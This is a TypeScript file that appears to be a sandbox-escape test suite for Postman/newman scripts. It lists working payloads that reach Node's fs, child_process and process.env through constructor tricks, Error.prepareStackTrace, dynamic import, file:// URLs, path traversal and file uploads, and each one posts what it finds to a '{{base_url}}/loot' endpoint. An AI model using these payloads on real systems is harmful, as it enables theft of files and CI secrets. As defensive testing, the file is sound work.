import { type Attack, contained, lootRun } from './attack.ts';

/** A script that says what it got in every way there is, and sends it home. It must get so far. */
const tell = `
function tell(loot) {
  var text = String(loot);
  console.log(text);
  pm.test("loot: " + text.slice(0, 2000), function () {});
  pm.sendRequest({ url: pm.variables.replaceIn("{{base_url}}/loot"), method: "POST", body: { mode: "raw", raw: text } }, function () {});
}
function take(thief) {
  try { tell(thief()); } catch (error) { tell("threw " + error.message); }
}
`;
const theft = (thief: string) => ({ ...contained, entry: { after: `${tell}take(function () { return ${thief}; });` } });
const later = (promise: string) => ({
  ...contained,
  entry: { after: `${tell}${promise}.then(tell, function (error) { tell("threw " + error.message); });` },
});

const send = (options: string) => ({
  ...contained,
  entry: {
    after: `pm.sendRequest({ url: pm.variables.replaceIn("{{base_url}}/loot"), method: "POST", body: ${options} }, function () {});`,
  },
});

/** Scripts of a list that want what is on the machine: a file, a variable of the environment, a program. */
const thieves: readonly Omit<Attack, 'asked'>[] = [
  {
    name: 'a socket of this machine',
    why: 'no permission of Node stands before it, and behind it may be all of the machine',
    ...contained,
    entry: {
      after: `${tell}pm.sendRequest("http://unix:{socket}:/stolen", function (error, response) { tell(error ? "threw" : response.text()); });`,
    },
  },
  {
    name: 'a file, by require',
    why: 'Postman has a require of its own, with an fs in it',
    ...theft('require("fs").readFileSync("{canary}", "utf8")'),
  },
  {
    name: 'a file, by the require of the sandbox itself',
    why: 'a function made of text sees what a script does not',
    ...theft('Function("return require")()("fs").readFileSync("{canary}", "utf8")'),
  },
  {
    name: 'a program, a thread',
    why: 'whoever starts one has all of Node, or all of the machine',
    ...theft(
      '["child_process", "worker_threads"].map(function (name) { try { return Object.keys(Function("return require")()(name)); } catch (error) { return error.message; } }).join() + Function("return require")()("child_process").execFileSync("cat", ["{canary}"])',
    ),
  },
  {
    name: 'the environment, by its name',
    why: 'keys of a CI stand there',
    ...theft('typeof process + JSON.stringify((0, eval)("process.env"))'),
  },
  {
    name: 'the environment, by the constructor of a function',
    why: 'it makes functions outside of every block',
    ...theft('JSON.stringify((function () {}).constructor("return process")().env)'),
  },
  {
    name: 'the environment, by what comes from outside',
    why: 'an object of the host has the constructors of the host',
    ...theft(
      '[pm.sendRequest, console.log, require("buffer").Buffer.from, pm.response.text, setTimeout].map(function (one) { try { return JSON.stringify(one.constructor("return process")().env); } catch (error) { return error.message; } }).join()',
    ),
  },
  {
    name: 'the environment, by an asynchronous function',
    why: 'its constructor is another one',
    ...later('(async function () {}).constructor("return JSON.stringify(process.env)")()'),
  },
  {
    name: 'the environment, by the callers of a function',
    why: 'a stack names functions and what they belong to',
    ...theft(
      '(function () { Error.prepareStackTrace = function (_, stack) { return stack.map(function (one) { return String(one.getThis && one.getThis() && one.getThis().process && one.getThis().process.env.CANARY); }); }; return String(new Error().stack); })()',
    ),
  },
  {
    name: 'a module of Node, by import',
    why: 'it is no function that could be taken away',
    ...later('import("node:fs").then(function (fs) { return fs.readFileSync("{canary}", "utf8"); })'),
  },
  {
    name: 'a file, as the body of a request',
    why: 'newman reads it for the script',
    ...send('{ mode: "file", file: { src: "{canary}" } }'),
  },
  {
    name: 'a file, as a field of a form',
    why: 'newman reads it for the script',
    ...send('{ mode: "formdata", formdata: [{ key: "loot", type: "file", src: "{canary}" }] }'),
  },
  {
    name: 'a file, by a way that begins inside',
    why: 'what is compared is a text, and not a place',
    ...send('{ mode: "file", file: { src: "./../../../../../../..{canary}" } }'),
  },
  {
    name: 'a file, by its URL',
    why: 'some libraries know more than http',
    ...contained,
    entry: {
      after: `${tell}pm.sendRequest("file://{canary}", function (error, response) { tell(error ? "threw" : response.text()); });`,
    },
  },
  {
    name: 'a secret of the run, told in every way',
    why: 'a script has the secrets of its list; that it cannot be kept from sending them, SECURITY.md says',
    ...contained,
    entry: {
      after:
        'var word = pm.environment.get("password"); console.log(word); pm.test(word, function () {}); pm.test(btoa(word), function () {}); pm.sendRequest(pm.variables.replaceIn("{{base_url}}/loot"), function () {});',
    },
  },
];

export const thefts: readonly Attack[] = thieves.map((one) => ({ ...one, asked: lootRun }));
